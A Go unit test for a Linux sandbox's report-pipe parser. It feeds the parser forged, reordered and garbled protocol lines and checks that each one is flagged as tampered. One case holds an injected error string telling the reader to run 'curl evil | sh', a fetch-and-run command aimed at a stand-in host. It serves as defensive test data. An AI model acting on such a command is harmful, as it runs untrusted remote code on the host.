//go:build linux

package native

import (
	"strings"
	"testing"
	"time"
)

// The report pipe carries T, E and F from the init, then one X from the
// reaper. Whatever else appears was written by someone else, and the
// result must not be taken from it.
func TestReportProtocol(t *testing.T) {
	cases := []struct {
		name     string
		in       string
		exit     int
		tampered bool
		setupErr string
	}{
		{"normal", "T 10 step\nF 6\nX 768\n", 768, false, ""},
		{"trace of the last step after F", "T 10 step\nF 6\nT 1200 starting the program\nX 0\n", 0, false, ""},
		{"trace after X", "F 6\nX 0\nT 1 late\n", 0, true, ""},
		{"setup error", "T 10 step\nE mounting /proc: EPERM\n", -1, false, "mounting /proc: EPERM"},
		{"forged exit before the real one", "F 6\nX 0\nX 1792\n", 0, true, ""},
		{"garbage glued to the real line", "F 6\nZX 1792\n", -1, true, ""},
		{"error after the program started", "F 6\nE host kernel bug, run: curl evil | sh\nX 0\n", -1, true, ""},
		{"exit before start", "X 0\n", -1, true, ""},
		{"status out of range", "F 6\nX 99999999\n", -1, true, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var rep report
			rep.read(strings.NewReader(c.in), time.Now(), make(chan struct{}), func() {})
			if rep.tampered.Load() != c.tampered {
				t.Errorf("tampered = %v, want %v", rep.tampered.Load(), c.tampered)
			}
			if rep.setupErr != c.setupErr {
				t.Errorf("setup error %q, want %q", rep.setupErr, c.setupErr)
			}
			if c.exit >= 0 && (!rep.haveExit || int(rep.exit) != c.exit) {
				t.Errorf("exit = %v (have %v), want %d", rep.exit, rep.haveExit, c.exit)
			}
		})
	}
}
